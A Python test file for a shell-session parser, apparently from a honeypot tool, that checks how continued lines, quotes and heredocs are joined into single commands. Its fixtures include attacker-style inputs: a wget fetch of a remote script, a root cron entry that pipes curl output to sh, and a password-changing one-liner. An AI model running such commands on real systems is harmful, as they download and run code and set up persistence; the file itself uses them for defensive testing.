"""Lines that the shell took as one command."""

from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.shell.script import MAX_CHARS, MAX_LINES, Joined, joined


@pytest.mark.parametrize(
    ("lines", "wanted"),
    [
        (["id", "w"], []),
        (["echo -e 'admin", "Qx7", "Qx7'|passwd|sh;", "id"], [(0, 2, "echo -e 'admin\nQx7\nQx7'|passwd|sh;")]),
        (["wget \\", "  http://203.0.113.9/z.sh"], [(0, 1, "wget   http://203.0.113.9/z.sh")]),
        (["a \\\\", "b"], []),
        (["a \\\\\\", "b"], [(0, 1, "a \\\\b")]),
        (["echo 'it \\", "x'"], [(0, 1, "echo 'it \\\nx'")]),
        (['echo "a \\', 'b"'], [(0, 1, 'echo "a b"')]),
        (['echo "a \\" b', 'c"'], [(0, 1, 'echo "a \\" b\nc"')]),
        (["cat > /x <<EOF", "* * * * * root curl http://x|sh", "EOF", "ls"], [(0, 2, "cat > /x <<EOF\n* * * * * root curl http://x|sh\nEOF")]),
        (["cat <<-'E O'", "it's", "\tE O"], [(0, 2, "cat <<-'E O'\nit's\n\tE O")]),
        (['cat <<"A" <<B', "1", "A", "2", "B"], [(0, 4, 'cat <<"A" <<B\n1\nA\n2\nB')]),
        (["cat <<< EOF", "id"], []),
        (["echo it's", "id", "w"], []),
        (["echo it's", "echo it's", "id"], [(0, 1, "echo it's\necho it's")]),
        (["ls # don't", "id"], []),
        (["echo a#'b", "c'"], [(0, 1, "echo a#'b\nc'")]),
        (["cat <<EOF", "never closed"], []),
        (["echo \\'", "id"], []),
        (["", "'", "'"], [(1, 2, "'\n'")]),
    ],
)  # fmt: skip
def test_what_belongs_together(lines: list[str], wanted: list[tuple[int, int, str]]) -> None:
    assert joined(lines) == [Joined(*one) for one in wanted]


def test_a_command_is_joined_up_to_the_limit_of_lines_and_of_text() -> None:
    for count, found in ((MAX_LINES, 1), (MAX_LINES + 1, 0)):
        assert len(joined(["cat <<EOF", *(["x"] * (count - 2)), "EOF"])) == found
    for size, found in ((MAX_CHARS - 1, 1), (MAX_CHARS + 1, 0)):
        assert len(joined(["'" + "x" * (size - 1), "'"])) == found


@given(st.lists(st.text("'\"\\<-EOF #;\n\tab$", max_size=8), max_size=12))
def test_never_raises_and_groups_stand_in_order_without_overlap(lines: list[str]) -> None:
    found = joined(lines)
    assert all(one.first < one.last < len(lines) for one in found)
    assert all(a.last < b.first for a, b in pairwise(found))


def test_a_long_session_of_open_quotes_takes_linear_time() -> None:
    lines = ["echo it's"] + ["echo x"] * 100_000
    assert joined(lines) == []
